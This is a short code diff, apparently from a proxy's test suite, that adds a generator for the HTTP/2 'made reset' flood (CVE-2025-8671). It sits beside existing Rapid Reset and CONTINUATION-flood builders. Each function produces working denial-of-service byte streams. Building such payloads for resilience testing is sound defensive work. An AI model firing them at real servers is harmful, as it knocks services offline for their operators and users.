@@ -45,6 +45,12 @@ def rapid_reset(requests):
     return preface() + b"".join(request(each, "/page") + frame(RST_STREAM, 0, each, cancel) for each in streams(requests))
 
 
+def made_reset(requests):
+    """Requests that the proxy itself must take back, because a frame behind each breaks the rules (CVE-2025-8671)."""
+    nothing = bytes(4)
+    return preface() + b"".join(request(each, "/page") + frame(WINDOW_UPDATE, 0, each, nothing) for each in streams(requests))
+
+
 def endless_head(frames):
     """A head that goes on and on (CVE-2024-27316 and its like)."""
     more = frame(CONTINUATION, 0, 1, b"\x00" + _text("x") + _text("y" * 100) + b"\x00" + _text("x") + _text("y" * 100))
